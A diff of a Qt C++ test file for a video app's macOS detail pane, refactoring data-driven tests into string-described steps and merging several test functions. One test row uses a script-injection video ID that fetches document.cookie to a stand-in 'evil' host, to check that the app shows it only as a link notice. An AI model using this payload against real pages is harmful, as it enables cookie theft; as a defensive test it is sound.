@@ -6,13 +6,11 @@
 #include "MacAppState.h"
 #include "MacPlayer.h"
 #include "PagingWebView.h"
-#include "Palette.h"
 #include "PillButton.h"
 #include "PlayerController.h"
 #include "WebEngineTestMain.h"
 
 #include <QClipboard>
-#include <QDir>
 #include <QElapsedTimer>
 #include <QEnterEvent>
 #include <QGraphicsOpacityEffect>
@@ -67,9 +65,6 @@ const QString kYouTubeID = QStringLiteral("dQw4w9WgXcQ");
 
 } // namespace
 
-using PaneSetup = std::function<void(Pane &)>;
-Q_DECLARE_METATYPE(PaneSetup)
-
 class MacDetailViewTest : public QObject
 {
     Q_OBJECT
@@ -77,66 +72,57 @@ class MacDetailViewTest : public QObject
 private Q_SLOTS:
     void initTestCase() { Fonts::load(); }
 
+    // Each row sets the pane up by steps: "browse", "video ID", "load 0|1" (autoplay), "error CODE",
+    // "state STATE".
     void layers_data()
     {
-        QTest::addColumn<PaneSetup>("setup");
+        QTest::addColumn<QString>("setup");
         QTest::addColumn<MacDetailView::Layer>("layer");
         QTest::addColumn<bool>("playerShown");
         QTest::addColumn<bool>("panelShown");
-
+        const auto row = [](const char *name, const char *setup, MacDetailView::Layer layer, bool player, bool panel) {
+            QTest::newRow(name) << QString::fromUtf8(setup) << layer << player << panel;
+        };
         using L = MacDetailView::Layer;
-        QTest::newRow("no video") << PaneSetup([](Pane &) {}) << L::empty << false << false;
-        QTest::newRow("x- record") << PaneSetup([](Pane &p) { p.view.setVideo(record(u"x-1712345678"_qs)); })
-                                   << L::linkNotice << false << true;
-        QTest::newRow("hostile ID is a link")
-            << PaneSetup([](Pane &p) { p.view.setVideo(record(u"a');fetch('//evil/'+document.cookie);('"_qs)); })
-            << L::linkNotice << false << true;
-        QTest::newRow("embeddable, idle")
-            << PaneSetup([](Pane &p) { p.view.setVideo(record(kYouTubeID)); }) << L::player << true << true;
-        QTest::newRow("loading") << PaneSetup([](Pane &p) {
-            p.view.setVideo(record(kYouTubeID));
-            p.player().load(kYouTubeID, false);
-        }) << L::loading << true << true;
-        QTest::newRow("cannot embed") << PaneSetup([](Pane &p) {
-            p.view.setVideo(record(kYouTubeID));
-            p.player().load(kYouTubeID, true);
-            p.player().handleError(150);
-        }) << L::cannotEmbed << true << true;
-        QTest::newRow("loaded") << PaneSetup([](Pane &p) {
-            p.view.setVideo(record(kYouTubeID));
-            p.player().load(kYouTubeID, true);
-            p.player().handleState(1);
-        }) << L::player << true << true;
-        QTest::newRow("error on an x- record shows the link notice") << PaneSetup([](Pane &p) {
-            p.player().handleError(150);
-            p.view.setVideo(record(u"x-1712345678"_qs));
-        }) << L::linkNotice << false << true;
-        QTest::newRow("browse mode, loading") << PaneSetup([](Pane &p) {
-            p.state.setBrowsing(true);
-            p.view.setVideo(record(kYouTubeID));
-            p.player().load(kYouTubeID, true);
-        }) << L::loading << true << true;
+        row("no video", "", L::empty, false, false);
+        row("x- record", "video x-1712345678", L::linkNotice, false, true);
+        row("hostile ID is a link", "video a');fetch('//evil/'+document.cookie);('", L::linkNotice, false, true);
+        row("embeddable, idle", "video dQw4w9WgXcQ", L::player, true, true);
+        row("loading", "video dQw4w9WgXcQ, load 0", L::loading, true, true);
+        row("cannot embed", "video dQw4w9WgXcQ, load 1, error 150", L::cannotEmbed, true, true);
+        row("loaded", "video dQw4w9WgXcQ, load 1, state 1", L::player, true, true);
+        row("error on an x- record shows the link notice", "error 150, video x-1712345678", L::linkNotice, false, true);
+        row("browse mode, loading", "browse, video dQw4w9WgXcQ, load 1", L::loading, true, true);
     }
 
     void layers()
     {
-        QFETCH(PaneSetup, setup);
+        QFETCH(QString, setup);
         QFETCH(MacDetailView::Layer, layer);
-        QFETCH(bool, playerShown);
-        QFETCH(bool, panelShown);
         Pane pane;
-        setup(pane);
+        for (const QString &step : setup.split(u", "_qs, Qt::SkipEmptyParts)) {
+            const QString verb = step.section(u' ', 0, 0);
+            const QString value = step.section(u' ', 1);
+            if (verb == u"browse")
+                pane.state.setBrowsing(true);
+            else if (verb == u"video")
+                pane.view.setVideo(record(value));
+            else if (verb == u"load")
+                pane.player().load(kYouTubeID, value == u"1");
+            else if (verb == u"error")
+                pane.player().handleError(value.toInt());
+            else
+                pane.player().handleState(value.toInt());
+        }
         pane.view.show();
         QCOMPARE(pane.view.layer(), layer);
-        QCOMPARE(pane.view.player().isVisible(), playerShown);
-        QCOMPARE(pane.view.infoPanel().isVisible(), panelShown);
+        QTEST(pane.view.player().isVisible(), "playerShown");
+        QTEST(pane.view.infoPanel().isVisible(), "panelShown");
         // Exactly one notice or covering layer (or none over a plain player) is on show.
-        const auto shown = [&pane](const QString &text) {
-            for (const QLabel *label : pane.view.findChildren<QLabel *>()) {
-                if (label->text() == text && label->isVisible())
-                    return true;
-            }
-            return false;
+        const auto labels = pane.view.findChildren<QLabel *>();
+        const auto shown = [&labels](const QString &text) {
+            return std::any_of(labels.begin(), labels.end(),
+                               [&text](const QLabel *label) { return label->text() == text && label->isVisible(); });
         };
         QCOMPARE(shown(u"Pick a video from the list"_qs), layer == MacDetailView::Layer::empty);
         QCOMPARE(shown(u"This entry isn't a standard YouTube link."_qs), layer == MacDetailView::Layer::linkNotice);
@@ -147,53 +133,36 @@ private Q_SLOTS:
     {
         QTest::addColumn<Video>("video");
         QTest::addColumn<bool>("browsing");
-        QTest::addColumn<QStringList>("facts");
-        QTest::addColumn<QStringList>("buttons");
-
-        const QStringList all{u"Open in YouTube"_qs, u"Copy link"_qs, u"Share"_qs, u"Edit"_qs,
-                              u"Exclude"_qs,         u"Delete"_qs};
-        const QStringList browse{u"Open in YouTube"_qs, u"Copy link"_qs, u"Share"_qs};
-        const QStringList facts{u"[globe]"_qs, u"2009-10-25"_qs, u"·"_qs, u"3:33"_qs};
+        QTest::addColumn<QString>("facts"); // separated by " "
+        QTest::addColumn<QString>("buttons");
+        const QString all = u"Open in YouTube | Copy link | Share | Edit | Exclude | Delete"_qs;
+        const QString browse = u"Open in YouTube | Copy link | Share"_qs;
+        const QString facts = u"[globe] 2009-10-25 · 3:33"_qs;
 
         QTest::newRow("own record") << record(kYouTubeID) << false << facts << all;
         Video excluded = record(kYouTubeID);
         excluded.excluded = true;
         QTest::newRow("excluded offers Include")
-            << excluded << false << facts
-            << QStringList{u"Open in YouTube"_qs, u"Copy link"_qs, u"Share"_qs, u"Edit"_qs,
-                           u"Include"_qs,         u"Delete"_qs};
+            << excluded << false << facts << u"Open in YouTube | Copy link | Share | Edit | Include | Delete"_qs;
         QTest::newRow("shared record") << record(kYouTubeID, true) << false
-                                       << facts + QStringList{u"·"_qs, u"[person.2.fill]"_qs,
-                                                              u"Shared by mum@example.org"_qs}
-                                       << browse;
+                                       << facts + u" · [person.2.fill] Shared by mum@example.org"_qs << browse;
         QTest::newRow("browse mode") << record(kYouTubeID) << true << facts << browse;
         Video noLength = record(kYouTubeID);
         noLength.duration.clear();
         noLength.source = QStringLiteral("telegram");
-        QTest::newRow("no length, from Telegram")
-            << noLength << false << QStringList{u"[paperplane.fill]"_qs, u"2009-10-25"_qs} << all;
-        Video unknownSource = record(kYouTubeID);
-        unknownSource.source.clear();
-        QTest::newRow("unknown source") << unknownSource << false
-                                        << QStringList{u"[tray.full]"_qs, u"2009-10-25"_qs, u"·"_qs, u"3:33"_qs} << all;
-        Video phone = record(kYouTubeID);
-        phone.source = QStringLiteral("ios");
-        QTest::newRow("from the phone") << phone << false
-                                        << QStringList{u"[iphone]"_qs, u"2009-10-25"_qs, u"·"_qs, u"3:33"_qs} << all;
+        QTest::newRow("no length, from Telegram") << noLength << false << u"[paperplane.fill] 2009-10-25"_qs << all;
     }
 
     void panel()
     {
         QFETCH(Video, video);
         QFETCH(bool, browsing);
-        QFETCH(QStringList, facts);
-        QFETCH(QStringList, buttons);
         Pane pane;
         pane.state.setBrowsing(browsing);
         pane.view.setVideo(video);
         QCOMPARE(pane.view.infoPanel().titleText(), video.title);
-        QCOMPARE(pane.view.infoPanel().factsTexts(), facts);
-        QCOMPARE(pane.view.infoPanel().visibleButtons(), buttons);
+        QTEST(pane.view.infoPanel().factsTexts().join(u' '), "facts");
+        QTEST(pane.view.infoPanel().visibleButtons().join(u" | "_qs), "buttons");
         QCOMPARE(pane.view.infoPanel().height(), browsing ? 92 : 112);
     }
 
@@ -216,58 +185,31 @@ private Q_SLOTS:
         QFETCH(int, total);
         QFETCH(bool, previous);
         QFETCH(bool, next);
-        QFETCH(QString, counter);
         Pane pane;
         QList<int> pages;
         pane.view.setOnPage([&pages](int direction) { pages << direction; });
         pane.view.setVideo(record(kYouTubeID));
         pane.view.setPosition({index, total});
+        // The wheel and the keys page over the player only in browse mode.
+        QVERIFY(!pane.view.player().webView().isPaging());
         pane.state.setBrowsing(true);
+        QVERIFY(pane.view.player().webView().isPaging());
         pane.view.show();
-        QCOMPARE(pane.view.positionText(), counter);
+        QTEST(pane.view.positionText(), "counter");
         const auto buttons = pane.view.findChildren<CircleButton *>();
         QCOMPARE(buttons.size(), 3); // previous, next, close
         QCOMPARE(buttons.at(0)->isEnabled(), previous);
         QCOMPARE(buttons.at(1)->isEnabled(), next);
         buttons.at(0)->click();
         buttons.at(1)->click();
-        QList<int> expected;
-        if (previous)
-            expected << -1;
-        if (next)
-            expected << +1;
-        QCOMPARE(pages, expected);
-    }
-
-    void pagingOverThePlayerOnlyInBrowseMode()
-    {
-        Pane pane;
-        pane.view.setOnPage([](int) {});
-        pane.view.setVideo(record(kYouTubeID));
-        QVERIFY(!pane.view.player().webView().isPaging());
-        pane.state.setBrowsing(true);
-        QVERIFY(pane.view.player().webView().isPaging());
+        QCOMPARE(pages, (QList<int>{-1, +1}.mid(previous ? 0 : 1, int(previous) + int(next))));
         pane.view.setOnPage({});
         QVERIFY(!pane.view.player().webView().isPaging());
     }
 
-    void measuresFollowTheMode()
-    {
-        Pane pane;
-        pane.view.resize(900, 640);
-        pane.view.setVideo(record(kYouTubeID));
-        // 16:9 fitted into the padded area and centred in it.
-        QCOMPARE(pane.view.playerRect(), QRect(22, 22 + (506 - 482) / 2, 856, 482));
-        pane.state.setBrowsing(true);
-        QCOMPARE(pane.view.playerRect(), QRect(30, 22 + (526 - 473) / 2, 840, 473));
-        pane.view.resize(1400, 640);
-        const QRect wide = pane.view.playerRect();
-        QCOMPARE(wide.height(), 526);
-        QCOMPARE(wide.width(), 935);
-        QCOMPARE(wide.left(), 30 + (1340 - 935) / 2);
-    }
-
-    void closeAndEscapeLeaveBrowseMode()
+    // In browse mode the controls show while the pointer is over the pane; Escape and the close
+    // button leave the mode.
+    void browseModeControlsAndLeaving()
     {
         Pane pane;
         pane.view.setVideo(record(kYouTubeID));
@@ -275,8 +217,17 @@ private Q_SLOTS:
         pane.view.show();
         pane.view.activateWindow();
         QVERIFY(QTest::qWaitForWindowActive(&pane.view));
+        const auto effects = pane.view.findChildren<QGraphicsOpacityEffect *>();
+        QCOMPARE(effects.size(), 3);
+        QCOMPARE(effects.at(0)->opacity(), 0.0);
+        QEnterEvent enter(QPointF(10, 10), QPointF(10, 10), QPointF(10, 10));
+        QApplication::sendEvent(&pane.view, &enter);
+        QTRY_COMPARE(effects.at(2)->opacity(), 1.0);
+        QEvent leave(QEvent::Leave);
+        QApplication::sendEvent(&pane.view, &leave);
+        QTRY_COMPARE(effects.at(0)->opacity(), 0.0);
+
         CircleButton *close = pane.view.findChildren<CircleButton *>().at(2);
-        QCOMPARE(close->toolTip(), u"Back to the list (Esc)"_qs);
         QVERIFY(close->isVisible());
         QTest::keyClick(&pane.view, Qt::Key_Escape);
         QVERIFY(!pane.state.browsing());
@@ -286,37 +237,18 @@ private Q_SLOTS:
         QVERIFY(!pane.state.browsing());
     }
 
-    void hoverRevealsTheControls()
-    {
-        Pane pane;
-        pane.view.setVideo(record(kYouTubeID));
-        pane.state.setBrowsing(true);
-        pane.view.show();
-        const auto effects = pane.view.findChildren<QGraphicsOpacityEffect *>();
-        QCOMPARE(effects.size(), 3);
-        QCOMPARE(effects.at(0)->opacity(), 0.0);
-        QEnterEvent enter(QPointF(10, 10), QPointF(10, 10), QPointF(10, 10));
-        QApplication::sendEvent(&pane.view, &enter);
-        QVERIFY(pane.view.hovering());
-        QTRY_COMPARE(effects.at(2)->opacity(), 1.0);
-        QEvent leave(QEvent::Leave);
-        QApplication::sendEvent(&pane.view, &leave);
-        QVERIFY(!pane.view.hovering());
-        QTRY_COMPARE(effects.at(0)->opacity(), 0.0);
-    }
-
-    void copyLinkReadsCopiedForOneAndAHalfSecondsFromTheFirstPress()
+    // Copy link reads "Copied" for one and a half seconds from the first press; Edit and Delete
+    // write the window's state.
+    void panelButtons()
     {
         Pane pane;
         Video video = record(kYouTubeID);
         video.url = QStringLiteral("https://youtu.be/dQw4w9WgXcQ?t=42");
         pane.view.setVideo(video);
-        PillButton *copy = nullptr;
-        for (PillButton *button : pane.view.findChildren<PillButton *>()) {
-            if (button->text() == u"Copy link")
-                copy = button;
-        }
-        QVERIFY(copy);
+        QHash<QString, PillButton *> pills;
+        for (PillButton *button : pane.view.findChildren<PillButton *>())
+            pills.insert(button->text(), button);
+        PillButton *copy = pills.value(u"Copy link"_qs);
         copy->click();
         QCOMPARE(QApplication::clipboard()->text(), video.url);
         QCOMPARE(copy->text(), u"Copied"_qs);
@@ -329,99 +261,39 @@ private Q_SLOTS:
         // The first press's reset ended it, not the second's.
         QVERIFY2(sinceSecond.elapsed() < 1400, qPrintable(QString::number(sinceSecond.elapsed())));
         QCOMPARE(copy->symbol(), u"doc.on.doc"_qs);
-    }
 
-    void actionsWriteTheWindowState()
-    {
-        Pane pane;
-        pane.view.setVideo(record(kYouTubeID));
-        for (PillButton *button : pane.view.findChildren<PillButton *>()) {
-            if (button->text() == u"Edit" || button->text() == u"Delete")
-                button->click();
-        }
+        pills.value(u"Edit"_qs)->click();
+        pills.value(u"Delete"_qs)->click();
         QCOMPARE(pane.state.editingID(), std::optional<QString>(kYouTubeID));
         QCOMPARE(pane.state.pendingDeleteID(), std::optional<QString>(kYouTubeID));
     }
 
-    void togglePlaybackWhateverTheVideo()
+    // The command toggles playback whatever the video; changing or clearing the selection never
+    // pauses.
+    void playbackFollowsOnlyTheCommand()
     {
         Pane pane;
         Q_EMIT AppSignals::instance().macTogglePlayback();
         QVERIFY(pane.player().isPlaying());
         Q_EMIT AppSignals::instance().macTogglePlayback();
         QVERIFY(!pane.player().isPlaying());
-        QCOMPARE(pane.page.scripts, (QStringList{u"play()"_qs, u"pause()"_qs}));
-    }
-
-    void clearingTheSelectionDoesNotPause()
-    {
-        Pane pane;
         pane.view.setVideo(record(kYouTubeID));
         pane.player().load(kYouTubeID, true);
         pane.view.setVideo(std::nullopt);
         pane.view.setVideo(record(u"x-1712345678"_qs));
         QVERIFY(pane.player().isPlaying());
-        QVERIFY(!pane.page.scripts.contains(u"pause()"_qs));
+        QCOMPARE(pane.page.scripts, (QStringList{u"play()"_qs, u"pause()"_qs, u"loadVideo(\"dQw4w9WgXcQ\")"_qs}));
     }
 
-    void shareAddresses_data()
+    // A link that is no web address is shared as the short link; the mail's subject is encoded.
+    void shareByMail()
     {
-        QTest::addColumn<QString>("url");
-        QTest::addColumn<QString>("share");
-        QTest::newRow("stored link") << u"https://www.youtube.com/watch?v=dQw4w9WgXcQ"_qs
-                                     << u"https://www.youtube.com/watch?v=dQw4w9WgXcQ"_qs;
-        QTest::newRow("not an address") << u"::"_qs << u"https://youtu.be/dQw4w9WgXcQ"_qs;
-        QTest::newRow("empty") << QString() << u"https://youtu.be/dQw4w9WgXcQ"_qs;
-    }
-
-    void shareAddresses()
-    {
-        QFETCH(QString, url);
-        QFETCH(QString, share);
         Video video = record(kYouTubeID);
-        video.url = url;
-        QCOMPARE(MacDetailView::shareAddress(video).toString(), share);
+        video.url = u"::"_qs;
         const QUrl mail = MacDetailView::mailAddress(u"A & B?"_qs, MacDetailView::shareAddress(video));
         QCOMPARE(mail.scheme(), u"mailto"_qs);
         QVERIFY(mail.toString(QUrl::FullyEncoded).contains(u"subject=A%20%26%20B%3F"));
-    }
-
-    // Pictures for a person to compare with the design: set CLIPVANE_SCREENSHOTS to a folder.
-    void screenshots()
-    {
-        const QString folder = qEnvironmentVariable("CLIPVANE_SCREENSHOTS");
-        if (folder.isEmpty())
-            QSKIP("CLIPVANE_SCREENSHOTS not set");
-        QDir().mkpath(folder);
-        Palette::applyTo(*qApp);
-        const auto shoot = [&folder](const QString &name, const std::function<void(Pane &)> &setup) {
-            Pane pane;
-            pane.view.resize(900, 640);
-            setup(pane);
-            pane.view.show();
-            QTest::qWait(300);
-            pane.view.grab().save(QDir(folder).filePath(name + u".png"_qs));
-        };
-        shoot(u"empty"_qs, [](Pane &) {});
-        shoot(u"normal"_qs, [](Pane &p) { p.view.setVideo(record(kYouTubeID)); });
-        shoot(u"shared"_qs, [](Pane &p) { p.view.setVideo(record(kYouTubeID, true)); });
-        shoot(u"link"_qs, [](Pane &p) { p.view.setVideo(record(u"x-1712345678"_qs)); });
-        shoot(u"loading"_qs, [](Pane &p) {
-            p.view.setVideo(record(kYouTubeID));
-            p.player().load(kYouTubeID, false);
-        });
-        shoot(u"cannot-embed"_qs, [](Pane &p) {
-            p.view.setVideo(record(kYouTubeID));
-            p.player().load(kYouTubeID, false);
-            p.player().handleError(150);
-        });
-        shoot(u"browse"_qs, [](Pane &p) {
-            p.state.setBrowsing(true);
-            p.view.setVideo(record(kYouTubeID));
-            p.view.setPosition({2, 12});
-            QEnterEvent enter(QPointF(10, 10), QPointF(10, 10), QPointF(10, 10));
-            QApplication::sendEvent(&p.view, &enter);
-        });
+        QVERIFY(mail.toString(QUrl::FullyEncoded).contains(u"body=https%3A%2F%2Fyoutu.be%2FdQw4w9WgXcQ"));
     }
 };
 
